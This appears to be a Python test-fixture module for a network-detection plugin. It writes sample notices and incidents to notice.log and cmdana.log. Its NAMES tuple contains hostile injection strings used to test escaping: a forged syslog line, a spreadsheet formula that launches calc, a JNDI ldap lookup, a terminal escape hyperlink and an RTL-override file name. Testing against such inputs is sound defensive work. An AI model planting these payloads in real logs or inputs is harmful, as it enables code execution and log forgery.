"""A folder with every kind of notice, and one of nothing but hostile texts, for the tests of what is exported."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import madeup

from cmdana_plugin.decision.notice import DETECTOR_LOST, Notice, TrafficDrift
from cmdana_plugin.logs.notices import notice_columns
from cmdana_plugin.logs.streams import CMDANA, NOTICE, Format, LogWriter, Value

LATER = 60.0
NAMES = (
    madeup.HOSTILE,
    "\n<34>1 2026-01-01T00:00:00Z evil su - - - forged", '"] [x@1 y="z"]', "\ud800\udfff", "a" * 100_000,
    "=cmd|' /C calc'!A0", "\u202egnp.exe", "${jndi:ldap://x}", "\x1b]8;;http://x\x07", "\xff\xfe\x00", "日本語🙂",
)  # fmt: skip


def notices() -> list[Notice]:
    """An odd connection, an incident told twice, a drift, and a detector that was lost."""
    one = madeup.verdict(madeup.START, 1, "10.0.0.5", "192.0.2.1", 443, "ssl", 1e-4, ("a reason",))
    scan = madeup.verdict(madeup.START + LATER, 2, "2001:db8::5", "2001:db8::6", 445, None, 1e-9)
    told = madeup.incident(scan, odd=3)
    again = madeup.incident(scan._replace(ts=scan.ts + LATER, uid="C2again"), odd=30)
    assert told.incident
    assert again.incident
    odd = replace(
        again.incident, technique="T1021.004", kind="lateral movement", hosts=("2001:db8::5", "10.0.0.9")
    )
    drift = TrafficDrift("dns", 0.01, 0.2, 900, 12, 3600.0, 3, (("novelty", 0.5),))
    return [
        madeup.notice(one), told, replace(again, incident=odd),
        Notice(scan.ts + 2 * LATER, "CMDANA::Traffic_Drift", "dns", drift=drift),
        Notice(scan.ts + 3 * LATER, DETECTOR_LOST, "lost"),
    ]  # fmt: skip


def rows() -> list[Mapping[str, Value]]:
    """The notices as columns of notice.log."""
    made = [notice_columns(n) for n in notices()]
    made[-1] |= {"msg": "The CMDANA detector is gone", "sub": "no heartbeat"}
    return made


def hostile_rows() -> list[Mapping[str, Value]]:
    """An incident for each hostile name, which stands wherever a text can."""
    (_, told, *_) = notices()
    made = []
    for i, words in enumerate(NAMES):
        name = words.encode("utf-8", "backslashreplace").decode()
        columns = notice_columns(told)
        columns |= {
            "ts": madeup.START + i, "msg": name, "sub": name, "uid": name, "community_id": name,
            "cmdana.incident": name, "cmdana.kind": name, "cmdana.technique": name, "cmdana.reasons": (name, name),
            "cmdana.actors": (name, "10.0.0.1", "::1%eth0"), "cmdana.targets": (name,), "cmdana.services": (name,),
            "cmdana.sent": 2**63 - 1, "cmdana.connections": 2**62, "cmdana.last_seen": -1e18, "cmdana.evidence": 1e300,
            "cmdana.verdict": name,
        }  # fmt: skip
        made.append(columns)
    return made


def written(folder: Path, rows: list[Mapping[str, Value]], fmt: Format = "tsv") -> Path:
    """A folder with notice.log of these rows, and cmdana.log of two verdicts."""
    folder.mkdir(exist_ok=True)
    log = LogWriter(folder, NOTICE, fmt)
    log.write(map(madeup.row, rows), madeup.START)
    log.close()
    verdicts = LogWriter(folder, CMDANA, fmt)
    for p in (1e-5, 0.5):
        verdicts.write([madeup.verdict(madeup.START, 7, "10.0.0.5", "192.0.2.1", 53, "dns", p)], madeup.START)
    verdicts.close()
    return folder
